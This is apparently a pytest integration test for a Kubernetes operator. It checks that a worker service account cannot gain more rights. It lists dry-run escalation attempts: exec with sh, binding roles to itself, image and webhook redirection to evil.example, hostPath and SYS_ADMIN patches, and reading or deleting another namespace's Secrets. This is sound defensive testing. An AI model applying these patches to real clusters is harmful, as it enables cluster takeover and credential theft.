"""What somebody tries who holds the worker's token: all ways to more rights are refused, by RBAC or by the policy.

Attempts are dry runs but where that makes the difference: the API server authorizes and admits them as it would the
real ones.
"""

import asyncio
import urllib.error
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from typing import Any, Final

import pytest

from activities.chart import ChartActivities
from activities.teardown import TeardownActivities
from kube.client import Kube
from localcluster.client import Person
from localcluster.controlplane import ControlPlane
from localcluster.shipped import MANAGER_CHART, RELEASE, helm
from models.mandate import Mandate
from models.names import KYMA_NAMESPACE, OPERAND_FINALIZER, WEBHOOK_CHECK
from models.provision import ChartInput
from operand.rendering import ChartRenderer
from tests.acting import provision, removed
from tests.conftest import OPERAND_CHART, Eventually

pytestmark = [pytest.mark.long, pytest.mark.usefixtures("bare")]

APPLY, MERGE = "application/apply-patch+yaml", "application/merge-patch+json"
WORKER: Final = f"{RELEASE}-worker"
RBAC: Final = "/apis/rbac.authorization.k8s.io/v1"
HOOKS: Final = "/apis/admissionregistration.k8s.io/v1"
KYMA: Final = f"/api/v1/namespaces/{KYMA_NAMESPACE}"
VICTIM: Final = "/api/v1/namespaces/victim/secrets"
DEPLOYMENT: Final = f"/apis/apps/v1/namespaces/{KYMA_NAMESPACE}/deployments/sap-btp-operator-controller-manager"
MUTATING: Final = f"{HOOKS}/mutatingwebhookconfigurations/sap-btp-operator-mutating-webhook-configuration"
VALIDATING: Final = f"{HOOKS}/validatingwebhookconfigurations/sap-btp-operator-validating-webhook-configuration"
CRD: Final = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/serviceinstances.services.cloud.sap.com"
INSTANCE: Final = "/apis/services.cloud.sap.com/v1/namespaces/victim/serviceinstances/theirs"
CHECK: Final = f"/apis/services.cloud.sap.com/v1/namespaces/{KYMA_NAMESPACE}/serviceinstances/{WEBHOOK_CHECK}"
OPERATOR: Final = f"/apis/operator.kyma-project.io/v1alpha1/namespaces/{KYMA_NAMESPACE}/btpoperators/btpoperator"
ME: Final = {"kind": "ServiceAccount", "name": WORKER, "namespace": KYMA_NAMESPACE}
IMAGE: Final = "ghcr.io/sap/sap-btp-service-operator/controller:v0.11.10"


@dataclass(frozen=True)
class Attempt:
    """One request, and what it is meant to do."""

    what: str
    method: str
    path: str
    body: Any = None
    content_type: str = MERGE
    dry: bool = True


def pods(**spec: Any) -> dict[str, Any]:
    return {"spec": {"template": {"spec": spec}}}


def container(**fields: Any) -> dict[str, Any]:
    return pods(containers=[{"name": "manager", "image": IMAGE, **fields}])


def volume(**source: Any) -> dict[str, Any]:
    return pods(volumes=[{"name": "cert", "secret": {"secretName": "webhook-server-cert"}}, {"name": "more", **source}])


def hook(**fields: Any) -> dict[str, Any]:
    service = {"name": "sap-btp-operator-webhook-service", "namespace": KYMA_NAMESPACE}
    rule = {"apiVersions": ["v1"], "operations": ["CREATE"], "apiGroups": ["services.cloud.sap.com"]}
    webhook = {
        "name": "m.kb.io",
        "admissionReviewVersions": ["v1"],
        "sideEffects": "None",
        "clientConfig": {"service": service},
        "rules": [{**rule, "resources": ["*"]}],
    }
    return {"webhooks": [{**webhook, **fields}]}


def token_secret(name: str) -> Attempt:
    body = {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": name, "annotations": {"kubernetes.io/service-account.name": "default"}},
        "type": "kubernetes.io/service-account-token",
    }
    return Attempt("a Secret with a token", "PATCH", f"{KYMA}/secrets/{name}?fieldManager=x&force=true", body, APPLY)


BY_RBAC = [
    Attempt("list Secrets", "GET", "/api/v1/secrets"),
    Attempt("watch Secrets", "GET", "/api/v1/secrets?watch=true&timeoutSeconds=1"),
    Attempt("a token of another account", "POST", f"{KYMA}/serviceaccounts/default/token", {"spec": {}}, ""),
    Attempt("exec into the operand", "POST", f"{KYMA}/pods/any/exec?command=sh"),
    Attempt("a Secret of another name", "POST", f"{KYMA}/secrets", {"metadata": {"name": "x"}}, ""),
    token_secret("x"),
    Attempt("its own role", "PATCH", f"{RBAC}/clusterroles/{WORKER}", {"rules": []}),
    Attempt("the operand's role", "PATCH", f"{RBAC}/clusterroles/{RELEASE}-operand", {"rules": []}),
    Attempt("the policy", "DELETE", f"{HOOKS}/validatingadmissionpolicies/{WORKER}"),
    Attempt("the policy's binding", "PATCH", f"{HOOKS}/validatingadmissionpolicybindings/{WORKER}", {"spec": {}}),
    *(
        Attempt("the operand's rights for itself", "PATCH", f"{path}{ending}", body, kind)
        for path, role in (
            (f"{RBAC}/clusterrolebindings/sap-btp-operator-manager-rolebinding", f"{RELEASE}-operand"),
            (f"{RBAC}/clusterrolebindings/{RELEASE}-operand", f"{RELEASE}-operand"),
            (f"{RBAC}/namespaces/{KYMA_NAMESPACE}/rolebindings/sap-btp-operator-leader-election-rolebinding", "admin"),
        )
        for ending, body, kind in (
            ("", {"subjects": [ME]}, MERGE),
            (
                "?fieldManager=btp-manager&force=true",
                {
                    "apiVersion": "rbac.authorization.k8s.io/v1",
                    "kind": "ClusterRoleBinding" if "clusterrolebindings" in path else "RoleBinding",
                    "metadata": {"name": path.rpartition("/")[2]},
                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
                    "subjects": [ME],
                },
                APPLY,
            ),
        )
    ),
]
BY_POLICY = [
    Attempt("another image", "PATCH", DEPLOYMENT, container(image="evil.example/x")),
    Attempt("an image that only looks alike", "PATCH", DEPLOYMENT, container(image=f"{IMAGE.split(':')[0]}-evil:1")),
    Attempt(
        "a second container",
        "PATCH",
        DEPLOYMENT,
        pods(initContainers=[{"name": "i", "image": "evil.example/x"}]),
    ),
    Attempt("another account", "PATCH", DEPLOYMENT, pods(serviceAccountName=WORKER, serviceAccount=WORKER)),
    Attempt("the node's network", "PATCH", DEPLOYMENT, pods(hostNetwork=True)),
    Attempt("the node's processes", "PATCH", DEPLOYMENT, pods(hostPID=True)),
    Attempt("more privileges", "PATCH", DEPLOYMENT, container(securityContext={"allowPrivilegeEscalation": True})),
    Attempt("a capability", "PATCH", DEPLOYMENT, container(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}})),
    Attempt("the node's files", "PATCH", DEPLOYMENT, volume(hostPath={"path": "/"})),
    Attempt("another Secret as a volume", "PATCH", DEPLOYMENT, volume(secret={"secretName": "sap-btp-manager"})),
    Attempt(
        "another Secret in a projected volume",
        "PATCH",
        DEPLOYMENT,
        volume(projected={"sources": [{"secret": {"name": "sap-btp-manager"}}]}),
    ),
    Attempt(
        "another Secret as environment",
        "PATCH",
        DEPLOYMENT,
        container(envFrom=[{"secretRef": {"name": "sap-btp-manager"}}]),
    ),
    Attempt(
        "a key of another Secret as environment",
        "PATCH",
        DEPLOYMENT,
        container(env=[{"name": "X", "valueFrom": {"secretKeyRef": {"name": "sap-btp-manager", "key": "clientid"}}}]),
    ),
    Attempt(
        "keys of its own Secrets as environment",
        "PATCH",
        DEPLOYMENT,
        container(envFrom=[{"secretRef": {"name": "sap-btp-service-operator"}}]),
    ),
    Attempt(
        "another ConfigMap as environment",
        "PATCH",
        DEPLOYMENT,
        container(envFrom=[{"configMapRef": {"name": "sap-btp-abandoned"}}]),
    ),
    Attempt("a kubeconfig by argument", "PATCH", DEPLOYMENT, container(args=["--kubeconfig=/etc/k"])),
    Attempt("a kubeconfig by an argument in pieces", "PATCH", DEPLOYMENT, container(args=["--kube$(E)config=/etc/k"])),
    Attempt(
        "a kubeconfig by variable", "PATCH", DEPLOYMENT, container(env=[{"name": "KUBECONFIG", "value": "/etc/k"}])
    ),
    Attempt(
        "another API server by variable",
        "PATCH",
        DEPLOYMENT,
        container(env=[{"name": "KUBERNETES_SERVICE_HOST", "value": "evil.example"}]),
    ),
    Attempt("another program", "PATCH", DEPLOYMENT, container(command=["/bin/sh"])),
    Attempt(
        "a program before the end", "PATCH", DEPLOYMENT, container(lifecycle={"preStop": {"exec": {"command": ["x"]}}})
    ),
    Attempt("a program as a probe", "PATCH", DEPLOYMENT, container(startupProbe={"exec": {"command": ["/manager"]}})),
    Attempt(
        "its own files over the operand's program",
        "PATCH",
        DEPLOYMENT,
        container(volumeMounts=[{"name": "cert", "mountPath": "/manager", "subPath": "tls.crt"}]),
    ),
    *(
        Attempt(
            f"its own files at {path}",
            "PATCH",
            DEPLOYMENT,
            container(volumeMounts=[{"name": "cert", "mountPath": path}]),
        )
        for path in ("//manager", "/./manager", "//var/run/secrets/kubernetes.io/serviceaccount", "/etc/../manager")
    ),
    Attempt(
        "its own files as the operand's token",
        "PATCH",
        DEPLOYMENT,
        container(volumeMounts=[{"name": "cert", "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"}]),
    ),
    Attempt(
        "a kubeconfig in the operand's configuration",
        "PATCH",
        f"{KYMA}/configmaps/sap-btp-operator-config",
        {"data": {"KUBECONFIG": "/etc/k"}},
    ),
    Attempt(
        "make an instance, not only by a dry run",
        "PATCH",
        f"{CHECK}?fieldManager=x&force=true",
        {
            "apiVersion": "services.cloud.sap.com/v1",
            "kind": "ServiceInstance",
            "metadata": {"name": WEBHOOK_CHECK},
            "spec": {"serviceOfferingName": "o", "servicePlanName": "p"},
        },
        APPLY,
        dry=False,
    ),
    Attempt(
        "cut off everybody's pods of the namespace",
        "PATCH",
        f"/apis/networking.k8s.io/v1/namespaces/{KYMA_NAMESPACE}/networkpolicies/kyma-project.io--allow-btp-operator-webhook",
        {"spec": {"podSelector": {"matchLabels": None}, "ingress": None}},
    ),
    Attempt("change somebody's instance", "PATCH", INSTANCE, {"spec": {"servicePlanName": "large"}}),
    Attempt("label somebody's instance", "PATCH", INSTANCE, {"metadata": {"labels": {"a": "b"}}}),
    Attempt("take somebody's finalizer off an instance", "PATCH", INSTANCE, {"metadata": {"finalizers": None}}),
    *(
        attempt
        for path in (MUTATING, VALIDATING)
        for attempt in (
            Attempt(
                "webhooks on everything",
                "PATCH",
                path,
                hook(
                    rules=[{"apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*"], "operations": ["*"]}],
                ),
            ),
            Attempt("a webhook at an address", "PATCH", path, hook(clientConfig={"url": "https://evil.example/"})),
            Attempt(
                "a webhook at another Service",
                "PATCH",
                path,
                hook(clientConfig={"service": {"name": "evil", "namespace": "victim"}}),
            ),
        )
    ),
    Attempt(
        "a conversion webhook",
        "PATCH",
        CRD,
        {
            "spec": {
                "conversion": {
                    "strategy": "Webhook",
                    "webhook": {
                        "conversionReviewVersions": ["v1"],
                        "clientConfig": {"url": "https://evil.example/"},
                    },
                }
            }
        },
    ),
    Attempt(
        "other pods behind the operand's Service",
        "PATCH",
        f"{KYMA}/services/sap-btp-operator-webhook-service",
        {"spec": {"selector": {"app.kubernetes.io/instance": "evil"}}},
    ),
    token_secret("webhook-server-cert"),
    Attempt("write somebody's Secret", "PATCH", f"{VICTIM}/crown", {"data": {"a": "Yg=="}}),
    Attempt("label somebody's Secret", "PATCH", f"{VICTIM}/crown", {"metadata": {"labels": {"a": "b"}}}),
    Attempt("take somebody's finalizer off", "PATCH", f"{VICTIM}/crown", {"metadata": {"finalizers": None}}),
    Attempt("delete somebody's Secret", "DELETE", f"{VICTIM}/crown"),
    Attempt("delete the manager's credentials", "DELETE", f"{KYMA}/secrets/sap-btp-manager"),
]
NEEDED = [
    Attempt(
        "take the operand's finalizer off an instance",
        "PATCH",
        INSTANCE,
        {"metadata": {"finalizers": ["example.com/theirs"]}},
    ),
    Attempt("claim a BtpOperator", "PATCH", OPERATOR, {"metadata": {"finalizers": ["example.com/x"]}}),
    Attempt(
        "roll the operand out anew",
        "PATCH",
        DEPLOYMENT,
        {"spec": {"template": {"metadata": {"annotations": {"a": "b"}}}}},
    ),
    Attempt(
        "take the operand's finalizer off",
        "PATCH",
        f"{VICTIM}/crown",
        {"metadata": {"finalizers": ["example.com/theirs"]}},
    ),
    Attempt("delete a binding's Secret", "DELETE", f"{VICTIM}/of-a-binding"),
    Attempt("renew a certificate", "PATCH", f"{KYMA}/secrets/ca-server-cert", {"data": {"ca.crt": "Yg=="}}),
]


@pytest.fixture(params=[True, False], ids=["with the policy", "without it"])
async def attempts(
    request: pytest.FixtureRequest,
    control_plane: ControlPlane,
    person: Person,
    mandate: Mandate,
    credentials: dict[str, str],
    eventually: Eventually,
    monkeypatch: pytest.MonkeyPatch,
) -> AsyncIterator[Callable[[Attempt], str]]:
    """The operand as the worker installs it, with the worker's token. Yields how to try something: what refuses it."""
    on = str(request.param).lower()
    helm(
        control_plane,
        "install",
        RELEASE,
        MANAGER_CHART,
        "--set",
        f"worker.replicas=0,trigger.replicas=0,admissionPolicy.enabled={on}",
    )
    monkeypatch.setenv("KUBECONFIG", str(control_plane.service_account(KYMA_NAMESPACE, WORKER)))
    kube = await Kube.from_environment()

    def refused_by(attempt: Attempt) -> str:
        path = (
            attempt.path
            + ("&" if "?" in attempt.path else "?")
            + ("dryRun=All" if attempt.dry and attempt.method != "GET" else "")
        )
        try:
            kind = attempt.content_type or "application/json"
            control_plane.request(attempt.method, path, attempt.body, kind, user=WORKER)
        except urllib.error.HTTPError as error:
            # A policy's refusal is a 422; that it is not the request's own fault shows where the policy is off.
            return {403: "RBAC", 422: "policy"}.get(error.code, str(error.code))
        return ""

    try:
        make_victims(control_plane, person)
        if request.param:
            wanted = Attempt("delete", "DELETE", f"{VICTIM}/crown")
            await eventually(lambda: asyncio.to_thread(lambda: refused_by(wanted) == "policy"))
        chart = ChartActivities(kube, ChartRenderer(OPERAND_CHART, rbac=False))
        await provision(chart.apply_chart, ChartInput(mandate=mandate))
        await eventually(lambda: asyncio.to_thread(lambda: make_instance(control_plane)))
        for path in (MUTATING, VALIDATING):  # nobody serves them without this Secret
            ignored = [{**each, "failurePolicy": "Ignore"} for each in (person.get(path) or {})["webhooks"]]
            control_plane.request("PATCH", path, {"webhooks": ignored}, MERGE)
        person.delete(f"{KYMA}/secrets/webhook-server-cert")
        yield refused_by
        control_plane.request("PATCH", INSTANCE, {"metadata": {"finalizers": None}}, MERGE)
        person.delete(INSTANCE)
        person.delete(CHECK)
        person.delete_operator("btpoperator")
        await removed(TeardownActivities(kube), mandate)
    finally:
        await kube.close()
        helm(control_plane, "uninstall", RELEASE, "--wait")
        for name in ("crown", "of-a-binding"):
            control_plane.request("PATCH", f"{VICTIM}/{name}", {"metadata": {"finalizers": None}}, MERGE)
            person.delete(f"{VICTIM}/{name}")


def make_victims(control_plane: ControlPlane, person: Person) -> None:
    """A Secret with parameters, and one that belongs to a ServiceBinding."""
    person.ensure_namespace("victim")
    person.put_secret({"a": "b"}, "crown", "victim")
    finalizers = [OPERAND_FINALIZER, "example.com/theirs"]
    control_plane.request("PATCH", f"{VICTIM}/crown", {"metadata": {"finalizers": finalizers}}, MERGE)
    owner = {"apiVersion": "services.cloud.sap.com/v1", "kind": "ServiceBinding", "name": "b", "uid": "1"}
    person.put_secret({"a": "b"}, "of-a-binding", "victim")
    body = {"metadata": {"ownerReferences": [{**owner, "controller": True}], "finalizers": ["example.com/theirs"]}}
    control_plane.request("PATCH", f"{VICTIM}/of-a-binding", body, MERGE)


def make_instance(control_plane: ControlPlane) -> bool:
    """Somebody's ServiceInstance; False while the API server does not serve the kind yet."""
    body = {
        "apiVersion": "services.cloud.sap.com/v1",
        "kind": "ServiceInstance",
        "metadata": {"name": "theirs", "finalizers": [OPERAND_FINALIZER, "example.com/theirs"]},
        "spec": {"serviceOfferingName": "o", "servicePlanName": "p"},
    }
    try:
        control_plane.request("POST", INSTANCE.rpartition("/")[0], body)
    except urllib.error.HTTPError:
        return False
    return True


async def test_every_way_to_more_rights_is_refused(
    attempts: Callable[[Attempt], str], request: pytest.FixtureRequest
) -> None:
    policy = "policy" if "with the policy" in request.node.name else ""
    assert [a.what for a in BY_RBAC if attempts(a) != "RBAC"] == []
    assert {a.what: attempts(a) for a in BY_POLICY} == {a.what: policy for a in BY_POLICY}
    assert {a.what: attempts(a) for a in NEEDED} == {a.what: "" for a in NEEDED}
